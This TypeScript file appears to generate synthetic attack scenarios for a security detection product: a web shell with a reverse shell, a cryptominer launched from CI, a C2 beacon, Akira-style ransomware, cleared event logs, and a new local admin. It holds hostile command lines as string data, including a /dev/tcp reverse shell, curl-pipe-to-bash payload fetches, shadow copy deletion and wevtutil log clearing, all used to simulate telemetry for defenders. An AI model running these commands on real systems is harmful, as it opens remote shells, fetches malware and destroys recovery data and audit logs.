// Attacks on servers: a web shell, a cryptominer in CI, a beacon from the payments gateway,
// ransomware on a file server, log clearing, and an account nobody asked for.
import { adminAccount, systemAccount, WEB_SERVER_ACCOUNT } from '../accounts';
import { c2Domain, externalAttackerIp, sha256 } from '../indicators';
import { TECHNIQUES as T } from '../mitre';
import type { FileInfo } from '../ocsf/objects';
import { run, runFile, serviceHost } from '../processes';
import { hex, lowerAlphanumeric, sample } from '../random';
import { endpointOf, ephemeralPort, resolverFor, Story } from '../story';
import { connection, fileEvent, finding, hostAt, launched, logon, lookup, meta } from './builders';
import { after, jitter, someoneIn } from './helpers';
import type { Scenario } from './types';

export const webShellReverseShell: Scenario = {
  key: 'web-shell-reverse-shell',
  org: 'bank',
  severity: 'high',
  status: 'open',
  techniques: [T.exploitPublicFacing, T.unixShell, T.ingressToolTransfer],
  tags: ['web-shell', 'linux', 'internet-facing'],
  devices: [{ hostname: 'web-prod-02' }],
  startsHoursAgo: [5, 12],
  build(ctx) {
    const { world, rng, tenancy } = ctx;
    const host = hostAt(ctx.hosts, 0);
    const name = host.device.hostname;
    const attackerIp = rng.pick(world.indicators.attackerIps);
    const shellName = `cache_${hex(rng, 8)}.php`;
    const shell: FileInfo = {
      name: shellName,
      path: `/var/www/portal/public/uploads/${shellName}`,
      sha256: sha256(rng),
      size: rng.int(900, 4_000),
    };
    const services = serviceHost(world, rng, host, after(ctx, -20_000));
    const fpm = run(world, rng, host, 'php-fpm8.1', 'php-fpm: pool www', WEB_SERVER_ACCOUNT, {
      parent: services,
      startedAt: after(ctx, -20_000),
    });
    const sh = run(
      world,
      rng,
      host,
      'sh',
      `sh -c "bash -i >& /dev/tcp/${attackerIp}/4444 0>&1"`,
      WEB_SERVER_ACCOUNT,
      { parent: fpm, startedAt: after(ctx, 1) },
    );
    const bash = run(world, rng, host, 'bash', 'bash -i', WEB_SERVER_ACCOUNT, {
      parent: sh,
      startedAt: after(ctx, 1.01),
    });
    const curl = run(
      world,
      rng,
      host,
      'curl',
      `curl -fsSL http://${attackerIp}:8080/l.sh -o /tmp/.l.sh`,
      WEB_SERVER_ACCOUNT,
      { parent: bash, startedAt: after(ctx, 3) },
    );
    const story = new Story(tenancy)
      .add(
        after(ctx, 0),
        host,
        meta('network', 'medium', `Multipart upload to /upload.php from ${attackerIp}`),
        connection({
          activity: 6,
          src: { ip: attackerIp, port: ephemeralPort(rng) },
          dst: endpointOf(host, 443),
          direction: 'Inbound',
          protocol: 'tcp',
          bytesIn: rng.int(3_000, 9_000),
          bytesOut: rng.int(400, 1_200),
          url: 'https://portal.thamesbridge.example/upload.php',
        }),
      )
      .add(
        after(ctx, 0.3),
        host,
        meta('endpoint', 'high', 'PHP file written to the uploads directory by php-fpm'),
        fileEvent({ activity: 1, file: shell, actor: fpm }),
      )
      .add(
        after(ctx, 1),
        host,
        meta('endpoint', 'high', 'Shell spawned by web server process php-fpm8.1'),
        launched(sh),
      )
      .add(
        after(ctx, 1.02),
        host,
        meta('network', 'high', `Outbound connection to ${attackerIp}:4444 from bash`),
        connection({
          activity: 1,
          src: endpointOf(host, ephemeralPort(rng)),
          dst: { ip: attackerIp, port: 4444 },
          direction: 'Outbound',
          protocol: 'tcp',
          bytesIn: rng.int(2_000, 20_000),
          bytesOut: rng.int(2_000, 30_000),
          process: bash,
        }),
      )
      .add(
        after(ctx, 2),
        host,
        meta('endpoint', 'high', `Reverse shell from the web server to ${attackerIp}`),
        finding({
          rule: {
            uid: 'SO-EDR-3120',
            name: 'Interactive shell from web server worker',
            type: 'Behavioral',
          },
          description: `php-fpm8.1 (www-data) ran sh -c "bash -i >& /dev/tcp/${attackerIp}/4444"; ${shellName} had just been uploaded.`,
          types: ['Initial Access', 'Execution'],
          techniques: [T.exploitPublicFacing, T.unixShell],
          confidence: 'High',
          firstSeen: after(ctx, 0),
          dataSources: ['Process', 'File', 'Network Traffic'],
          evidence: [
            { kind: 'process', process: sh },
            { kind: 'file', file: shell },
          ],
        }),
      )
      .add(
        after(ctx, 3),
        host,
        meta('endpoint', 'medium', `Script downloaded to /tmp by curl from ${attackerIp}`),
        launched(curl),
      );
    return {
      title: `Reverse shell spawned by web server process on ${name}`,
      description:
        `${attackerIp} uploaded ${shellName} through the customer portal's upload form; php-fpm then opened a reverse ` +
        `shell to ${attackerIp}:4444 as www-data and fetched a script into /tmp. Take ${name} out of the load balancer ` +
        `and preserve /var/www/portal/public/uploads.`,
      steps: story.steps,
      people: [],
    };
  },
};

export const cryptominerInCi: Scenario = {
  key: 'cryptominer-build-server',
  org: 'manufacturer',
  severity: 'high',
  status: 'investigating',
  techniques: [T.resourceHijacking, T.ingressToolTransfer, T.unixShell],
  tags: ['cryptomining', 'linux', 'ci'],
  devices: [{ hostname: 'build-01' }],
  startsHoursAgo: [16, 40],
  simulate: { os: 'linux' },
  build(ctx) {
    const { world, rng, tenancy } = ctx;
    const host = hostAt(ctx.hosts, 0);
    const name = host.device.hostname;
    const dropIp = externalAttackerIp(rng);
    const pool = `pool.${lowerAlphanumeric(rng, 7)}.xyz`;
    const poolIp = externalAttackerIp(rng);
    const runner = { name: 'gitlab-runner', uid: '998', kind: 'service' as const };
    const miner = {
      name: 'xmrig',
      path: '/tmp/.X11-unix/.xm/xmrig',
      sha256: sha256(rng),
      size: rng.int(6_000_000, 8_500_000),
    };
    const services = serviceHost(world, rng, host, after(ctx, -30_000));
    const agent = run(
      world,
      rng,
      host,
      'gitlab-runner',
      'gitlab-runner run --working-directory /home/gitlab-runner',
      runner,
      { parent: services, startedAt: after(ctx, -30_000) },
    );
    const bash = run(
      world,
      rng,
      host,
      'bash',
      `bash -c "curl -s http://${dropIp}/x | bash"`,
      runner,
      { parent: agent, startedAt: after(ctx, 0) },
    );
    const xmrig = runFile(
      rng,
      host,
      miner,
      `${miner.path} -o ${pool}:3333 -u 4${lowerAlphanumeric(rng, 30)} --donate-level 1 -B`,
      runner,
      { parent: bash, startedAt: after(ctx, 1) },
    );
    const resolver = resolverFor(world, tenancy);
    const story = new Story(tenancy)
      .add(
        after(ctx, 0),
        host,
        meta('endpoint', 'medium', 'CI job piped a remote script into bash'),
        launched(bash),
      )
      .add(
        after(ctx, 0.5),
        host,
        meta('endpoint', 'high', 'Executable written to hidden folder under /tmp: xmrig'),
        fileEvent({ activity: 1, file: miner, actor: bash }),
      )
      .add(
        after(ctx, 1),
        host,
        meta('endpoint', 'high', 'Cryptocurrency miner launched: xmrig'),
        launched(xmrig),
      )
      .add(
        after(ctx, 1.1),
        host,
        meta('network', 'medium', `DNS query for mining pool ${pool}`),
        lookup({
          src: endpointOf(host, ephemeralPort(rng)),
          resolver,
          hostname: pool,
          type: 'A',
          rcode: 'NoError',
          answers: [poolIp],
          process: xmrig,
        }),
      );
    let minute = 1.2;
    for (let i = 0; i < 3; i++) {
      story.add(
        after(ctx, minute),
        host,
        meta('network', 'high', `Stratum mining traffic to ${poolIp}:3333`),
        connection({
          activity: 6,
          src: endpointOf(host, ephemeralPort(rng)),
          dst: { ip: poolIp, port: 3333, hostname: pool },
          direction: 'Outbound',
          protocol: 'tcp',
          bytesIn: rng.int(20_000, 60_000),
          bytesOut: rng.int(15_000, 50_000),
          process: xmrig,
        }),
      );
      minute = jitter(ctx, minute + 15, 2);
    }
    story.add(
      after(ctx, 3),
      host,
      meta('endpoint', 'high', `Cryptocurrency miner running on ${name}`),
      finding({
        rule: { uid: 'SO-EDR-3301', name: 'Cryptominer process and Stratum traffic', type: 'Rule' },
        description: `xmrig from /tmp/.X11-unix/.xm, started by a GitLab CI job, is mining to ${pool}:3333.`,
        types: ['Resource Hijacking'],
        techniques: [T.resourceHijacking, T.ingressToolTransfer],
        confidence: 'High',
        firstSeen: after(ctx, 0),
        dataSources: ['Process', 'Network Traffic', 'DNS'],
        evidence: [
          { kind: 'process', process: xmrig },
          { kind: 'query', hostname: pool },
        ],
      }),
    );
    return {
      title: `Cryptominer started by a CI job on ${name}`,
      description:
        `A GitLab CI job ran "curl http://${dropIp}/x | bash", which dropped xmrig in /tmp/.X11-unix/.xm and started ` +
        `mining to ${pool}. Find the pipeline change that added the step (a compromised token or a poisoned dependency).`,
      steps: story.steps,
      people: [],
    };
  },
};

export const paymentsGatewayBeacon: Scenario = {
  key: 'payments-gateway-beacon',
  org: 'bank',
  severity: 'high',
  status: 'open',
  techniques: [T.webProtocols, T.asymmetricCrypto],
  tags: ['c2', 'payments', 'crown-jewel'],
  devices: [{ hostname: 'SWIFT-GW01' }],
  startsHoursAgo: [22, 44],
  build(ctx) {
    const { world, rng, tenancy } = ctx;
    const host = hostAt(ctx.hosts, 0);
    const name = host.device.hostname;
    const c2Ip = world.indicators.c2Ips[1] ?? '198.51.100.23';
    const domain = world.indicators.c2Domains[1] ?? c2Domain(rng);
    const binary = {
      name: 'cryptsvc.exe',
      path: 'C:\\ProgramData\\Microsoft\\Crypto\\RSA\\cryptsvc.exe',
      sha256: sha256(rng),
    };
    const services = serviceHost(world, rng, host, after(ctx, -40_000));
    const implant = runFile(rng, host, binary, `"${binary.path}" -k netsvcs`, systemAccount(host), {
      parent: services,
      startedAt: after(ctx, 0),
      integrity: 'System',
    });
    const resolver = resolverFor(world, tenancy);
    const story = new Story(tenancy)
      .add(
        after(ctx, 0),
        host,
        meta('endpoint', 'high', 'Unsigned service binary started from ProgramData: cryptsvc.exe'),
        launched(implant),
      )
      .add(
        after(ctx, 0.5),
        host,
        meta('network', 'medium', `DNS query to newly observed domain ${domain}`),
        lookup({
          src: endpointOf(host, ephemeralPort(rng)),
          resolver,
          hostname: domain,
          type: 'A',
          rcode: 'NoError',
          answers: [c2Ip],
          ttl: 60,
          process: implant,
        }),
      );
    let minute = 1;
    for (let i = 0; i < 6; i++) {
      story.add(
        after(ctx, minute),
        host,
        meta('network', 'medium', `TLS beacon from ${name} to ${c2Ip}:8443`),
        connection({
          activity: 6,
          src: endpointOf(host, ephemeralPort(rng)),
          dst: { ip: c2Ip, port: 8443, hostname: domain },
          direction: 'Outbound',
          protocol: 'tcp',
          bytesIn: rng.int(400, 1_600),
          bytesOut: rng.int(600, 2_000),
          process: implant,
        }),
      );
      minute = jitter(ctx, minute + 10, 0.8);
    }
    story.add(
      after(ctx, minute),
      host,
      meta('network', 'high', `Beaconing from the payments gateway to rare external IP ${c2Ip}`),
      finding({
        rule: {
          uid: 'SO-NDR-2210',
          name: 'Periodic connections to rare destination',
          type: 'Statistical',
        },
        description: `${name} connects to ${c2Ip}:8443 every ~10 minutes from ${binary.path}; no other host talks to it.`,
        types: ['Command and Control'],
        techniques: [T.webProtocols, T.asymmetricCrypto],
        confidence: 'Medium',
        firstSeen: after(ctx, 0.5),
        dataSources: ['Network Traffic', 'Process'],
        evidence: [
          { kind: 'process', process: implant },
          { kind: 'connection', src: endpointOf(host), dst: { ip: c2Ip, port: 8443 } },
        ],
      }),
    );
    return {
      title: `Beaconing to rare external IP ${c2Ip} from ${name}`,
      description:
        `${binary.path}, an unsigned service masquerading as a Windows crypto service, beacons to ${domain} ` +
        `(${c2Ip}) over TLS every ~10 minutes. ${name} is a crown jewel: involve the payments team before any containment.`,
      steps: story.steps,
      people: [],
    };
  },
};

const SHARE_FILES = [
  'Q3-forecast.xlsx',
  'Board-pack-October.pdf',
  'Client-onboarding-checklist.docx',
  'FX-hedging-2026.xlsx',
  'Payroll-adjustments-Nov.xlsx',
  'Audit-findings-2025.docx',
  'Loan-book-summary.xlsx',
  'AML-escalations.xlsx',
  'Wealth-fees-model.xlsx',
  'Treasury-limits.pdf',
  'Vendor-contracts.zip',
  'KYC-refresh-plan.docx',
];

export const ransomwareOnFileServer: Scenario = {
  key: 'ransomware-file-server',
  org: 'bank',
  severity: 'critical',
  status: 'open',
  techniques: [T.dataEncryptedForImpact, T.inhibitRecovery, T.serviceExecution],
  tags: ['ransomware', 'file-share'],
  devices: [{ hostname: 'FS01' }],
  startsHoursAgo: [1, 3],
  build(ctx) {
    const { world, rng, tenancy } = ctx;
    const host = hostAt(ctx.hosts, 0);
    const name = host.device.hostname;
    const system = systemAccount(host);
    const locker = {
      name: 'svhost.exe',
      path: 'C:\\Users\\Public\\svhost.exe',
      sha256: sha256(rng),
      size: rng.int(700_000, 1_400_000),
    };
    const services = serviceHost(world, rng, host, after(ctx, -50_000));
    const psexesvc = run(world, rng, host, 'PSEXESVC.exe', 'C:\\Windows\\PSEXESVC.exe', system, {
      parent: services,
      startedAt: after(ctx, 0),
      integrity: 'System',
    });
    const vssadmin = run(
      world,
      rng,
      host,
      'vssadmin.exe',
      'vssadmin.exe delete shadows /all /quiet',
      system,
      { parent: psexesvc, startedAt: after(ctx, 0.5), integrity: 'System' },
    );
    const encryptor = runFile(rng, host, locker, `"${locker.path}" -p D:\\Shares -n 10`, system, {
      parent: psexesvc,
      startedAt: after(ctx, 1),
      integrity: 'System',
    });
    const story = new Story(tenancy)
      .add(
        after(ctx, 0),
        host,
        meta('endpoint', 'high', `PsExec service started on ${name}`),
        launched(psexesvc),
      )
      .add(
        after(ctx, 0.5),
        host,
        meta('endpoint', 'high', 'Volume shadow copies deleted with vssadmin'),
        launched(vssadmin),
      )
      .add(
        after(ctx, 1),
        host,
        meta('endpoint', 'high', `Unsigned binary started from C:\\Users\\Public: ${locker.name}`),
        launched(encryptor),
      );
    const files = sample(rng, SHARE_FILES, 10);
    const folders = ['Finance', 'Board', 'Operations', 'Treasury'];
    files.forEach((file, i) => {
      const folder = `D:\\Shares\\${rng.pick(folders)}`;
      const before: FileInfo = {
        name: file,
        path: `${folder}\\${file}`,
        size: rng.int(40_000, 9_000_000),
      };
      const after_: FileInfo = {
        name: `${file}.akira`,
        path: `${folder}\\${file}.akira`,
        size: (before.size ?? 0) + 512,
      };
      story.add(
        after(ctx, 1.5 + i * 0.05),
        host,
        meta('endpoint', 'high', `File renamed with ransomware extension .akira: ${file}`),
        fileEvent({
          activity: 5,
          file: before,
          result: after_,
          actor: encryptor,
        }),
      );
    });
    const note: FileInfo = {
      name: 'akira_readme.txt',
      path: 'D:\\Shares\\Finance\\akira_readme.txt',
      sha256: sha256(rng),
      size: 2_748,
    };
    story
      .add(
        after(ctx, 2.2),
        host,
        meta('endpoint', 'high', 'Ransom note written: akira_readme.txt'),
        fileEvent({ activity: 1, file: note, actor: encryptor }),
      )
      .add(
        after(ctx, 2.5),
        host,
        meta(
          'endpoint',
          'critical',
          'Ransomware behaviour: mass file renames with .akira extension',
          `${locker.name} renamed 1,843 files on ${name}'s D:\\Shares in 60 seconds and deleted the shadow copies.`,
          { files_renamed_in_window: 1_843, window_seconds: 60 },
        ),
        finding({
          rule: {
            uid: 'SO-EDR-1404',
            name: 'Mass rename with a known ransomware extension',
            type: 'Behavioral',
          },
          description: `1,843 files renamed to *.akira by ${locker.path} after vssadmin delete shadows; ransom note ${note.name} written.`,
          types: ['Ransomware'],
          techniques: [T.dataEncryptedForImpact, T.inhibitRecovery, T.serviceExecution],
          confidence: 'High',
          firstSeen: after(ctx, 0.5),
          dataSources: ['Process', 'File'],
          evidence: [
            { kind: 'process', process: encryptor },
            { kind: 'file', file: note },
            { kind: 'process', process: vssadmin },
          ],
        }),
      );
    return {
      title: `Ransomware behaviour: mass file renames with .akira extension on ${name}`,
      description:
        `Started through PsExec as SYSTEM, ${locker.path} deleted the volume shadow copies and is renaming files on ` +
        `D:\\Shares to *.akira (1,843 in the first minute), leaving akira_readme.txt. Isolate ${name} now; ` +
        `then find the machine that ran PsExec.`,
      steps: story.steps,
      people: [],
    };
  },
};

export const eventLogsCleared: Scenario = {
  key: 'event-logs-cleared',
  org: 'manufacturer',
  severity: 'high',
  status: 'investigating',
  techniques: [T.clearWindowsLogs, T.validDomainAccounts],
  tags: ['defense-evasion', 'production'],
  devices: [{ hostname: 'MES-APP01' }],
  startsHoursAgo: [26, 60],
  build(ctx) {
    const { world, rng, tenancy } = ctx;
    const host = hostAt(ctx.hosts, 0);
    const admin = someoneIn(ctx, 'IT');
    const account = adminAccount(admin);
    const unknownIp = `172.16.11.${rng.int(200, 250)}`;
    const services = serviceHost(world, rng, host, after(ctx, -40_000));
    const cmd = run(
      world,
      rng,
      host,
      'cmd.exe',
      'cmd.exe /c wevtutil cl Security & wevtutil cl System',
      account,
      { parent: services, startedAt: after(ctx, 2), integrity: 'High' },
    );
    const clearSecurity = run(world, rng, host, 'wevtutil.exe', 'wevtutil cl Security', account, {
      parent: cmd,
      startedAt: after(ctx, 2.1),
      integrity: 'High',
    });
    const clearSystem = run(world, rng, host, 'wevtutil.exe', 'wevtutil cl System', account, {
      parent: cmd,
      startedAt: after(ctx, 2.2),
      integrity: 'High',
    });
    const story = new Story(tenancy)
      .add(
        after(ctx, 0),
        host,
        meta(
          'identity',
          'medium',
          `Network logon to ${host.device.hostname} by ${account.name} from unmanaged host ${unknownIp}`,
        ),
        logon({
          activity: 1,
          account,
          success: true,
          logonType: 'Network',
          protocol: 'NTLM',
          src: { ip: unknownIp, port: ephemeralPort(rng) },
          dst: endpointOf(host, 445),
          remote: true,
        }),
      )
      .add(
        after(ctx, 2.1),
        host,
        meta('endpoint', 'high', 'Security event log cleared with wevtutil'),
        launched(clearSecurity),
      )
      .add(
        after(ctx, 2.2),
        host,
        meta('endpoint', 'high', 'System event log cleared with wevtutil'),
        launched(clearSystem),
      )
      .add(
        after(ctx, 3),
        host,
        meta('endpoint', 'high', 'Windows event logs cleared after logon from an unmanaged host'),
        finding({
          rule: { uid: 'SO-EDR-1501', name: 'Event log cleared', type: 'Rule' },
          description: `Security and System logs cleared by ${account.name} minutes after an NTLM logon from ${unknownIp}, which has no SenseOn agent.`,
          types: ['Defense Evasion'],
          techniques: [T.clearWindowsLogs, T.validDomainAccounts],
          confidence: 'High',
          firstSeen: after(ctx, 0),
          dataSources: ['Process', 'Authentication'],
          evidence: [
            { kind: 'process', process: clearSecurity },
            { kind: 'user', account },
          ],
        }),
      );
    return {
      title: `Event logs cleared on ${host.device.hostname} after admin logon from unknown host`,
      description:
        `${account.name} (${admin.user.name}'s admin account) logged on from ${unknownIp}, a machine with no agent, ` +
        `and cleared the Security and System logs on the MES server. Ask ${admin.user.name} whether it was them; ` +
        `find ${unknownIp} on the plant network.`,
      steps: story.steps,
      people: [admin],
    };
  },
};

export const localAdminCreated: Scenario = {
  key: 'local-admin-created',
  org: 'manufacturer',
  severity: 'informational',
  status: 'open',
  techniques: [T.localAccount],
  tags: ['account-management'],
  devices: [{ hostname: 'KPC-FS01' }],
  startsHoursAgo: [70, 120],
  build(ctx) {
    const { world, rng, tenancy } = ctx;
    const host = hostAt(ctx.hosts, 0);
    const admin = someoneIn(ctx, 'IT');
    const account = adminAccount(admin);
    const services = serviceHost(world, rng, host, after(ctx, -40_000));
    const addUser = run(
      world,
      rng,
      host,
      'net.exe',
      'net user svc_backup2 ******** /add',
      account,
      { parent: services, startedAt: after(ctx, 0), integrity: 'High' },
    );
    const addGroup = run(
      world,
      rng,
      host,
      'net.exe',
      'net localgroup administrators svc_backup2 /add',
      account,
      { parent: services, startedAt: after(ctx, 0.5), integrity: 'High' },
    );
    const story = new Story(tenancy)
      .add(
        after(ctx, 0),
        host,
        meta('endpoint', 'informational', 'Local account created with net user: svc_backup2'),
        launched(addUser),
      )
      .add(
        after(ctx, 0.5),
        host,
        meta('endpoint', 'informational', 'Account svc_backup2 added to local Administrators'),
        launched(addGroup),
      )
      .add(
        after(ctx, 1),
        host,
        meta('endpoint', 'informational', 'New local administrator account created'),
        finding({
          rule: { uid: 'SO-EDR-1610', name: 'Local administrator created', type: 'Rule' },
          description: `${account.name} created svc_backup2 and made it a local administrator on ${host.device.hostname}.`,
          types: ['Account Management'],
          techniques: [T.localAccount],
          confidence: 'Low',
          firstSeen: after(ctx, 0),
          dataSources: ['Process'],
          evidence: [
            { kind: 'process', process: addGroup },
            { kind: 'user', account },
          ],
        }),
      );
    return {
      title: `New local administrator account svc_backup2 created on ${host.device.hostname}`,
      description:
        `${admin.user.name} created a local administrator for a backup job. Probably planned work; ` +
        `confirm there is a change ticket.`,
      steps: story.steps,
      people: [admin],
    };
  },
};
